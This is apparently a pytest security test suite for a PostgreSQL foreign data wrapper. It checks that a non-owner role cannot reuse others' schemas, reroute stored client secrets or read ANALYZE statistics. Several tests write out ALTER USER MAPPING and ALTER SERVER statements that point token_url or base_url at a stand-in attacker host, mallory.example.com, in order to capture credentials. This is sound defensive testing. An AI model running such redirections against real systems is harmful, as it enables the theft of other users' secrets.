"""Registration relies on nothing that another role owns, and the owner of a server cannot have the secrets of others sent to him."""

from __future__ import annotations

import psycopg
import pytest
from psycopg import errors, sql
from sites import RIGHTS, SECRET, make_registrar
from support import refused

EVIL = "https://mallory.example.com/token"


@pytest.fixture
def mallory(site):
    """A neighbour who may make servers and schemas, but not roles."""
    with site.superuser() as connection:
        connection.execute("CREATE ROLE mallory LOGIN PASSWORD 'pw'")
        for right in ("create", "wrapper"):
            connection.execute(RIGHTS[right].replace("registrar", "mallory"))
    with site.role("mallory") as connection:
        yield connection


def make_server(site, connection, name="cdf"):
    connection.execute(
        sql.SQL("CREATE SERVER {} FOREIGN DATA WRAPPER cdf_fdw OPTIONS (base_url {})").format(
            sql.Identifier(name), sql.Literal(site.emulator.url)
        )
    )


def make_mapping(connection, role="etl", server="cdf", secret=SECRET):
    connection.execute(
        f"CREATE USER MAPPING FOR {role} SERVER {server} OPTIONS (project 'p', "
        f"token_url 'https://login.example.com/token', client_id 'c', client_secret '{secret}')"
    )


def mapping(site, role="etl") -> list[str]:
    with site.superuser() as connection:
        return connection.execute("SELECT umoptions FROM pg_user_mappings WHERE usename = %s", [role]).fetchone()[0]


# What exists is used only if it belongs to the caller or to a superuser.


def test_server_of_a_neighbour(site, mallory):
    make_server(site, mallory)
    before = site.objects()
    site.emulator.admin_delete("requests")
    with site.superuser() as connection:
        with refused("42501", 'server "cdf"', "mallory"):
            site.register(connection)
        assert site.objects() == before
        # The secret went nowhere.
        assert site.emulator.admin_get("requests")["items"] == []
        assert site.register(connection, server="mine")[1] is not None


def test_server_of_another_superuser(site):
    with site.superuser() as connection:
        connection.execute("CREATE ROLE boss SUPERUSER")
        make_server(site, connection)
        connection.execute("ALTER SERVER cdf OWNER TO boss")
        assert site.register(connection)[1] is not None
        # Whoever is no superuser any more is a neighbour.
        connection.execute("ALTER ROLE boss NOSUPERUSER")
        with refused("42501", "boss"):
            site.register(connection)


def test_server_of_a_role_that_the_caller_is_a_member_of(site):
    """Other members of it may alter the server, too."""
    make_registrar(site)
    with site.superuser() as connection:
        connection.execute("CREATE ROLE team")
        connection.execute("GRANT team TO registrar")
        connection.execute("GRANT USAGE ON FOREIGN DATA WRAPPER cdf_fdw TO team")
        make_server(site, connection)
        connection.execute("ALTER SERVER cdf OWNER TO team")
    with site.role("registrar") as connection, refused("42501", 'server "cdf"', "team"):
        site.register(connection)


def test_schema_of_a_neighbour(site, mallory):
    mallory.execute("CREATE SCHEMA etl")
    mallory.execute("CREATE TABLE etl.assets (id bigint, external_id text, name text)")
    with site.superuser() as connection:
        connection.execute("CREATE ROLE etl LOGIN PASSWORD 'pw'")
        before = site.objects()
        with refused("42501", 'schema "etl"', "mallory"):
            site.register(connection, username="etl")
        # Nor for a new role.
        mallory.execute("CREATE SCHEMA fresh")
        with refused("42501", 'schema "fresh"', "mallory"):
            site.register(connection, username="fresh")
        mallory.execute("DROP SCHEMA fresh")
        assert site.objects() == before


def test_schema_of_the_role_itself(site):
    """It would own what is to be kept from it."""
    with site.superuser() as connection:
        connection.execute("CREATE ROLE etl LOGIN PASSWORD 'pw'")
        connection.execute("CREATE SCHEMA etl AUTHORIZATION etl")
        with refused("42501", 'schema "etl"'):
            site.register(connection, username="etl")


TABLES = {
    "table": "CREATE TABLE etl.assets (id bigint)",
    "view": "CREATE VIEW etl.events AS SELECT 1 AS id",
    "foreign table": "CREATE FOREIGN TABLE etl.assets (id bigint) SERVER cdf OPTIONS (resource 'assets')",
}


@pytest.mark.parametrize("made", TABLES)
def test_table_of_a_neighbour(site, mallory, made):
    with site.superuser() as connection:
        make_server(site, connection)
        connection.execute("GRANT USAGE ON FOREIGN SERVER cdf TO mallory")
        connection.execute("CREATE SCHEMA etl")
        connection.execute("GRANT USAGE, CREATE ON SCHEMA etl TO mallory")
        mallory.execute(TABLES[made])
        before = site.objects()
        with refused("42501", "etl.", "mallory"):
            site.register(connection, username="etl")
        assert site.objects() == before


def test_table_of_another_resource(site):
    """Whoever writes assets must not write events."""
    with site.superuser() as connection:
        make_server(site, connection)
        connection.execute("CREATE SCHEMA etl")
        connection.execute("CREATE FOREIGN TABLE etl.assets (id bigint) SERVER cdf OPTIONS (resource 'events')")
        with pytest.raises(errors.DuplicateTable, match="assets"):
            site.register(connection, username="etl")


def test_own_schema_and_own_table_are_used(site):
    make_registrar(site)
    with site.role("registrar") as connection:
        make_server(site, connection)
        connection.execute("CREATE SCHEMA etl")
        connection.execute("CREATE FOREIGN TABLE etl.assets (id bigint) SERVER cdf OPTIONS (resource 'assets')")
        assert site.register(connection, username="etl")[1] is not None
        (columns,) = connection.execute("SELECT count(*) FROM pg_attribute WHERE attrelid = 'etl.assets'::regclass AND attnum > 0").fetchone()
    assert columns == 1


def test_table_of_a_superuser_whose_rights_the_caller_cannot_grant(site):
    """GRANT only warns of that; the role would be left without its rights."""
    make_registrar(site)
    with site.superuser() as superuser, site.role("registrar") as connection:
        make_server(site, connection)
        superuser.execute("CREATE SCHEMA etl")
        superuser.execute("GRANT ALL ON SCHEMA etl TO registrar WITH GRANT OPTION")
        superuser.execute("CREATE FOREIGN TABLE etl.assets (id bigint) SERVER cdf OPTIONS (resource 'assets')")
        superuser.execute("GRANT SELECT ON etl.assets TO registrar WITH GRANT OPTION")
        before = site.objects()
        with refused("42501", "assets"):
            site.register(connection, username="etl")
        assert site.objects() == before
        superuser.execute("GRANT ALL ON etl.assets TO registrar WITH GRANT OPTION")
        assert site.register(connection, username="etl")[1] is not None


# Who owns a server does not decide where the secrets of others go.


def in_statement(connection, statement):
    connection.execute(statement)


def in_code(connection, statement):
    connection.execute(f"DO $do$ BEGIN EXECUTE $x${statement}$x$; END $do$")


def after_loading(connection, statement):
    connection.execute("SELECT cdf_fdw_validator('{}', 0)")
    connection.execute("SELECT 1")
    connection.execute(statement)


WAYS = [in_statement, in_code, after_loading]


@pytest.fixture
def shared(site, mallory):
    """Mallory owns the server `cdf`, on which a superuser has made a mapping for etl."""
    with site.superuser() as connection:
        connection.execute("CREATE ROLE etl LOGIN PASSWORD 'pw'")
        make_server(site, connection)
        make_mapping(connection)
        connection.execute("ALTER SERVER cdf OWNER TO mallory")
    return site


STEERED = {
    "set": f"SET token_url '{EVIL}'",
    "twice": f"SET token_url 'https://login.example.com/token', SET token_url '{EVIL}'",
    "dropped": f"DROP token_url, ADD token_url '{EVIL}'",
    "with others": f"SET project 'q', SET token_url '{EVIL}', ADD scope 's'",
}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("steered", STEERED)
def test_token_url_is_changed_with_the_secret_only(shared, way, steered):
    before = mapping(shared)
    change = f"ALTER USER MAPPING FOR etl SERVER cdf OPTIONS ({STEERED[steered]})"
    with shared.role("mallory") as fresh, refused("42501", "token_url", "client_secret"):
        way(fresh, change)
    assert mapping(shared) == before


@pytest.mark.parametrize("way", WAYS)
def test_whoever_gives_a_secret_says_where_it_goes(shared, way):
    change = f"ALTER USER MAPPING FOR etl SERVER cdf OPTIONS (SET token_url '{EVIL}', SET client_secret 'my own')"
    with shared.role("mallory") as fresh:
        way(fresh, change)
    assert f"token_url={EVIL}" in mapping(shared)
    assert not any(SECRET in option for option in mapping(shared))


@pytest.mark.parametrize("way", WAYS)
def test_other_options_of_a_mapping_are_the_owners(shared, way):
    with shared.role("mallory") as fresh:
        way(fresh, "ALTER USER MAPPING FOR etl SERVER cdf OPTIONS (SET project 'q')")
    assert "project=q" in mapping(shared)


@pytest.mark.parametrize("way", WAYS)
def test_base_url_stays_while_others_have_credentials(shared, way):
    change = "ALTER SERVER cdf OPTIONS (SET base_url 'https://mallory.example.com')"
    with shared.role("mallory") as fresh:
        with refused("42501", "base_url", "etl"):
            way(fresh, change)
        # What does not decide where anything goes may be changed, and all of it once nobody else is on the server.
        fresh.execute("ALTER SERVER cdf OPTIONS (ADD on_conflict 'ignore')")
        fresh.execute("ALTER SERVER cdf VERSION '2'")
        fresh.execute("DROP USER MAPPING FOR etl SERVER cdf")
        fresh.execute(change)


def test_base_url_of_a_server_with_a_mapping_for_all(shared):
    with shared.superuser() as connection:
        connection.execute("DROP USER MAPPING FOR etl SERVER cdf")
        make_mapping(connection, role="PUBLIC")
    with shared.role("mallory") as fresh, refused("42501", "base_url", "PUBLIC"):
        fresh.execute("ALTER SERVER cdf OPTIONS (SET base_url 'https://mallory.example.com')")


def test_own_credentials_do_not_keep_the_server(site, mallory):
    make_server(site, mallory)
    make_mapping(mallory, role="mallory")
    mallory.execute("ALTER SERVER cdf OPTIONS (SET base_url 'https://mallory.example.com')")


def test_superusers_change_what_they_like(shared):
    with shared.superuser() as connection:
        connection.execute(f"ALTER USER MAPPING FOR etl SERVER cdf OPTIONS (SET token_url '{EVIL}')")
        connection.execute("ALTER SERVER cdf OPTIONS (SET base_url 'https://other.example.com')")
    assert f"token_url={EVIL}" in mapping(shared)


def test_role_with_usage_learns_no_secret_by_its_own_mapping(site):
    with site.superuser() as connection:
        connection.execute("CREATE ROLE etl LOGIN PASSWORD 'pw'")
        make_server(site, connection)
        make_mapping(connection)
        connection.execute("GRANT USAGE ON FOREIGN SERVER cdf TO etl")
    with site.role("etl") as connection, refused("42501", "token_url"):
        connection.execute(f"ALTER USER MAPPING FOR etl SERVER cdf OPTIONS (SET token_url '{EVIL}')")


def test_registrar_renews_credentials_with_another_token_url(site):
    make_registrar(site)
    with site.role("registrar") as connection:
        site.register(connection, username="etl")
        # The same secret, given anew.
        site.register(connection, username="etl", token_url=site.emulator.token_url + "?tenant=2")
    assert any("tenant=2" in option for option in mapping(site))


def test_registered_role_delivers_to_nobody_else(site):
    """The attack, from its beginning to its end."""
    make_registrar(site)
    with site.role("registrar") as connection:
        username, password, *_ = site.register(connection)
        with refused("42501", "base_url"):
            connection.execute("ALTER SERVER cdf OPTIONS (SET base_url 'http://127.0.0.1:9')")
    with site.role(username, password) as connection:
        connection.execute("INSERT INTO assets (external_id, name) VALUES ('a', 'a')")
    assert site.emulator.admin_get("dump", resource="assets")["items"]


def test_renamed_wrapper_is_guarded_too(shared):
    with shared.superuser() as connection:
        connection.execute("ALTER FOREIGN DATA WRAPPER cdf_fdw RENAME TO another")
    with shared.role("mallory") as fresh, pytest.raises(psycopg.errors.InsufficientPrivilege):
        fresh.execute(f"ALTER USER MAPPING FOR etl SERVER cdf OPTIONS (SET token_url '{EVIL}')")


def test_owner_of_a_table_learns_nothing_by_the_analyze_of_another(site, mallory):
    """Statistics hold values of the sample, and the owner of a table may see them."""
    given = site.arguments()
    options = sql.SQL(", ").join(sql.SQL("{} {}").format(sql.Identifier(name), sql.Literal(given[name])) for name in given)
    with site.superuser() as connection:
        site.register(connection)
        connection.execute("GRANT USAGE ON FOREIGN SERVER cdf TO mallory")
        connection.execute(sql.SQL("CREATE USER MAPPING FOR CURRENT_USER SERVER cdf OPTIONS ({})").format(options))
        mallory.execute("CREATE SCHEMA m")
        mallory.execute("CREATE FOREIGN TABLE m.spy (external_id text) SERVER cdf OPTIONS (resource 'events')")
        connection.execute("INSERT INTO m.spy SELECT 'secret' || i % 2 FROM generate_series(1, 100) i")
        site.emulator.admin_delete("requests")
        connection.execute("ANALYZE m.spy")
        assert site.emulator.admin_get("requests")["items"] == []
        assert mallory.execute("SELECT * FROM pg_stats WHERE tablename = 'spy'").fetchall() == []
        # Of a table that is its own a superuser learns nothing that he may not know.
        connection.execute("ALTER FOREIGN TABLE m.spy OWNER TO CURRENT_USER")
        connection.execute("ANALYZE m.spy")
        assert len(connection.execute("SELECT * FROM pg_stats WHERE tablename = 'spy'").fetchall()) == 1
